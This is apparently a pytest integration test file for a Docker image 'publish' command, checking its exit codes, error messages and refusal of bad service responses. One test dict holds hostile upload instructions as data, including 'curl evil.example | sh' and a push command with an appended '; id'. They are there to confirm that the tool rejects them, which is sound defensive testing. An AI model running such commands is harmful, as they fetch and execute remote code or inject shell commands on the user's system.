"""What bad input and a bad world get: an exit code of its class, a message, and nothing half done.

The command runs as a process against an Images API that answers as each case says, with a real
registry and the real engine.
"""

import json
import socket
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from docker import DockerClient
from fastapi import Response
from fastapi.responses import HTMLResponse, JSONResponse, PlainTextResponse

from tests.integration.parts import Job, Registry, command_environment, interrupt_at, run, start
from tests.integration.scripted_service import ScriptedService, problem

TOKEN = "token-of-the-test-1234567890"
OTHER_DIGEST = "sha256:" + "0" * 64


class Case:
    """One run of the command; what is true of all failures is checked here."""

    def __init__(
        self, service: ScriptedService, job: Job, engine: DockerClient, repository: str
    ) -> None:
        self.service = service
        self.job = job
        self.engine = engine
        self.name = f"{repository}:1.0"
        self.environ = command_environment(
            FBN_SCHEDULER_URL=service.url, FBN_ACCESS_TOKEN=TOKEN, DOCKER_BUILDKIT="0"
        )

    def run(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        given = arguments or ("job", self.name)
        return run("publish", *given, cwd=self.job.folder.parent, environ=self.environ)

    def fails(self, code: int, *words: str, arguments: tuple[str, ...] = ()) -> str:
        result = self.run(*arguments)
        assert result.returncode == code, result.stderr
        assert result.stdout == "", "stdout is for the digest of a published image"
        for word in words:
            assert word in result.stderr
        assert "Error: " in result.stderr
        assert "Traceback" not in result.stderr
        for secret in (TOKEN, self.service.password):
            assert secret not in result.stderr
        kept = {tag for image in self.engine.api.images() for tag in image["RepoTags"] or ()}
        assert not {tag for tag in kept if tag.startswith(self.service.host)}, "a tag is left"
        return result.stderr

    def pushed(self) -> bool:
        repository, _, tag = self.name.partition(":")
        return bool(self.service.digest_of(f"foo/{repository}", tag))


@pytest.fixture
def case(service: ScriptedService, job: Job, clean_engine: DockerClient, repository: str) -> Case:
    return Case(service, job, clean_engine, repository)


def test_the_case_itself_succeeds(case: Case, registry: Registry) -> None:
    """Without this, the failures below could have another cause than the one they name."""
    result = case.run()
    assert result.returncode == 0, result.stderr
    repository = case.name.partition(":")[0]
    assert result.stdout == registry.digest(f"foo/{repository}", "1.0") + "\n"
    assert case.service.requests == [
        f"get_image {case.name}",
        f"upload_image {case.name}",
        *[f"get_image {case.name}", f"list_images {repository}"] * 2,  # listed, and scanned
    ]


def test_no_engine(case: Case, tmp_path: Path) -> None:
    case.environ["DOCKER_HOST"] = f"unix://{tmp_path}/none.sock"
    case.fails(6, "No Docker engine answers", "Next step")
    assert case.service.requests == []


def test_an_engine_that_is_closed_to_the_user(case: Case, tmp_path: Path) -> None:
    # As root every socket is open, so one that refuses stands for one that may not be opened.
    with socket.socket(socket.AF_UNIX) as closed:
        closed.bind(f"{tmp_path}/closed.sock")
        case.environ["DOCKER_HOST"] = f"unix://{tmp_path}/closed.sock"
        case.fails(6, "No Docker engine answers")


def test_an_image_that_is_not_there(case: Case) -> None:
    case.fails(
        6, "neither a path nor an image", "load: true", arguments=("absent:image", case.name)
    )
    assert not case.pushed()


@pytest.mark.parametrize("source", ["./absent", "gone/Dockerfile", "."])
def test_no_dockerfile(case: Case, source: str) -> None:
    case.fails(6, "There is no", "Next step", arguments=(source, case.name))
    assert case.service.requests == []


def test_a_build_that_fails(case: Case) -> None:
    case.job.write("FROM busybox:1.37\nRUN echo what went wrong && exit 3\n")
    case.fails(6, "| what went wrong", "The build of", "non-zero code: 3")
    case.fails(6, "| what went wrong", arguments=("job", case.name, "--quiet"))
    assert [line for line in case.service.requests if "upload" in line] == []


def test_a_name_that_breaks_the_rule(case: Case) -> None:
    case.fails(2, "lower-case", "'my-job:1.0.0'", arguments=("job", "My-Job"))
    assert case.service.requests == []


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ((), "Missing argument 'SOURCE'"),
        (("job",), "Missing argument 'NAME:TAG'"),
        (("job", "a:1", "--frobnicate"), "--frobnicate"),
        (("job", "a:1", "--label", "x"), "NAME=VALUE"),
        (("job", "a:1", "--wait-timeout", "-1"), "--wait-timeout"),
        (("busybox:1.37", "a:1", "--no-cache"), "Build options"),
        (("job", "a:1", "--scheduler-url", "foo"), "not an http"),
        (("job", "a:1", "--secrets-file", "absent.json"), "cannot be read"),
        (("job", "a:1", "--ca-bundle", "absent.pem"), "does not exist"),
        (("job", "a:1", "--ca-bundle", "job/content"), "certificate authorities"),
    ],
)
def test_usage_and_configuration(case: Case, arguments: tuple[str, ...], words: str) -> None:
    result = run("publish", *arguments, cwd=case.job.folder.parent, environ=case.environ)
    assert (result.returncode, result.stdout) == (2, "")
    assert words in result.stderr
    assert "Traceback" not in result.stderr
    assert case.service.requests == []


def test_no_url(case: Case) -> None:
    del case.environ["FBN_SCHEDULER_URL"]
    case.fails(2, "FBN_SCHEDULER_URL", "--local")


def test_no_credentials(case: Case) -> None:
    del case.environ["FBN_ACCESS_TOKEN"]
    case.fails(3, "There are no LUSID credentials", "FBN_ACCESS_TOKEN")
    case.environ["FBN_USERNAME"] = "me"
    case.fails(3, "incomplete", "FBN_PASSWORD")
    assert case.service.requests == []


def test_credentials_that_are_not_accepted(case: Case) -> None:
    case.service.gets = lambda: Response(status_code=401)
    case.job.write("FROM busybox:1.37\nRUN exit 1\n")
    case.fails(3, "did not accept the credentials")  # and it says so before the long build


def html() -> Response:
    return HTMLResponse("<html><title>Sign in</title></html>")


REFUSALS: dict[str, tuple[Callable[[], Response], int, tuple[str, ...]]] = {
    "400 with fields": (
        lambda: problem(400, errors={"imageName": ["must be shorter"]}),
        4,
        ("imageName: must be shorter", "Request id: 0HN:42"),
    ),
    "401": (lambda: Response(status_code=401), 3, ("did not accept the credentials",)),
    "403": (lambda: problem(403, code=186), 4, ("HTTP 403", "permission")),
    "403 network zone": (lambda: problem(403, code=939), 4, ("network zone",)),
    "404": (lambda: problem(404), 4, ("HTTP 404", "/scheduler2")),
    "429": (lambda: Response(status_code=429), 4, ("HTTP 429", "too many requests")),
    "429 with Retry-After": (
        lambda: Response(status_code=429, headers={"Retry-After": "1"}),
        4,
        ("Try again in 1 seconds", "trying again"),
    ),
    "500": (lambda: problem(500, detail="It broke."), 4, ("HTTP 500", "It broke")),
    "502 HTML": (lambda: HTMLResponse("<h1>Bad</h1>", 502), 4, ("HTTP 502", "text/html")),
    "HTML": (html, 4, ("does not match its API documentation", "text/html", "Sign in")),
    "text": (lambda: PlainTextResponse("hello"), 4, ("does not match its API documentation",)),
    "half a document": (lambda: JSONResponse({"expiryTime": None}), 4, ("Missing or malformed",)),
    "redirect": (
        lambda: Response(status_code=302, headers={"Location": "https://elsewhere"}),
        4,
        ("Redirects are not followed",),
    ),
}


@pytest.mark.parametrize(("answer", "code", "words"), REFUSALS.values(), ids=REFUSALS.keys())
def test_what_the_service_answers_to_upload_image(
    case: Case, answer: Callable[[], Response], code: int, words: tuple[str, ...]
) -> None:
    case.service.uploads = answer
    case.fails(code, *words, "Next step")
    assert not case.pushed()


def test_a_service_that_cannot_be_reached(case: Case) -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    case.environ["FBN_SCHEDULER_URL"] = f"http://127.0.0.1:{port}/scheduler2"
    case.fails(4, "does not answer get_image", "Nothing listens on that port")


UNUSABLE: dict[str, dict[str, str | None]] = {
    "no docker command": {"pushVersionedDockerImageCommand": "curl evil.example | sh"},
    "two registries": {"dockerLoginCommand": "docker login -u a -p bbbbbbbb other.example"},
    "another tag": {
        "tagVersionedDockerImageCommand": "docker tag foo/NAME HOST/foo/NAME-2",
        "pushVersionedDockerImageCommand": "docker push HOST/foo/NAME-2",
    },
    "a shell's character": {"pushVersionedDockerImageCommand": "docker push HOST/foo/NAME; id"},
    "expired": {"expiryTime": "2020-01-01T00:00:00.0000000+00:00"},
}


@pytest.mark.parametrize("changes", UNUSABLE.values(), ids=UNUSABLE.keys())
def test_instructions_that_cannot_be_followed(case: Case, changes: dict[str, str | None]) -> None:
    text = json.dumps(changes).replace("NAME", case.name).replace("HOST", case.service.host)
    case.service.changes = json.loads(text)
    case.fails(5, "upload instructions", "Next step")
    assert not case.pushed()


def test_a_platform_that_the_service_does_not_want(case: Case) -> None:
    case.service.changes = {
        "buildVersionedDockerImageCommand": f"docker build -t foo/{case.name} . "
        "--platform=linux/s390x"
    }
    case.fails(6, "requires an image for linux/s390x")
    assert not case.pushed()


def test_a_push_that_the_registry_refuses(case: Case) -> None:
    case.service.changes = {
        "dockerLoginCommand": f"docker login -u {case.service.username} -p wrong-password "
        f"{case.service.host}"
    }
    text = case.fails(7, "The push to", "The credential has expired")
    assert "wrong-password" not in text
    assert not case.pushed()


def after_the_push(case: Case, answer: Callable[[], Response]) -> Callable[[], Response]:
    """Answer 404 until the registry has the image, and then `answer`."""
    return lambda: answer() if case.pushed() else problem(404)


def image(case: Case, **members: Any) -> Callable[[], Response]:
    repository, _, tag = case.name.partition(":")
    return lambda: JSONResponse({"name": repository, "tags": [{"name": tag}], **members})


def test_a_digest_that_differs(case: Case) -> None:
    case.service.gets = after_the_push(case, image(case, digest=OTHER_DIGEST))
    case.fails(7, "was pushed.", OTHER_DIGEST, "Next step")


def test_a_wait_that_times_out(case: Case) -> None:
    case.service.gets = lambda: problem(404)
    arguments = ("job", case.name, "--wait-timeout", "2")
    case.fails(8, "within 2 seconds", "last state: not listed", arguments=arguments)
    assert case.pushed()


def test_an_image_without_a_digest_is_no_proof(case: Case) -> None:
    case.service.gets = after_the_push(case, image(case, digest=None))
    arguments = ("job", case.name, "--wait-timeout", "2")
    case.fails(8, "get_image had no digest", arguments=arguments)


def test_an_image_that_is_there_and_cannot_be_compared(case: Case) -> None:
    case.service.gets = image(case, digest=OTHER_DIGEST)
    case.service.uploads = lambda: problem(403)
    case.fails(11, "already exists in LUSID", "cannot be determined")


def test_a_refusal_after_the_push_says_that_the_image_was_pushed(case: Case) -> None:
    case.service.gets = after_the_push(case, lambda: Response(status_code=401))
    case.fails(3, "did not accept the credentials", "was pushed, and LUSID may list it later")


def test_ctrl_c_while_waiting(case: Case) -> None:
    case.service.gets = lambda: problem(404)
    process = start("publish", "job", case.name, cwd=case.job.folder.parent, environ=case.environ)
    code, text = interrupt_at(process, "Waiting for LUSID")
    assert code == 130, text
    assert "was pushed, and LUSID may list it later" in text
